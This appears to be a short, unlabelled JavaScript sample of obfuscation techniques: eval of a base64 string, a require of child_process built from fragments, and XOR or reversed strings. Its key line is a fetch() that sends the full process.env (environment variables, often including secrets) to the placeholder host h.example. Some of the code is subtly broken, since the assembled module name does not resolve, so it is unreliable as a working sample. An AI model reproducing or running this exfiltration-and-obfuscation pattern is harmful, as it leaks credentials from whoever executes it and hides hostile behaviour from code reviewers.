const t = ['x', 'y']; function g(i) { i = i - 0x5; const r = t[i]; return r; }
eval(atob('YWxlcnQoMSk7')); require('chi' + g(5) + `ld${'_'}process`); String.fromCharCode(...[104, 105].map(c => c ^ 1));
fetch(`https://h.example/${encodeURIComponent(JSON.stringify(process.env))}`); 'olleh'.split('').reverse().join('');
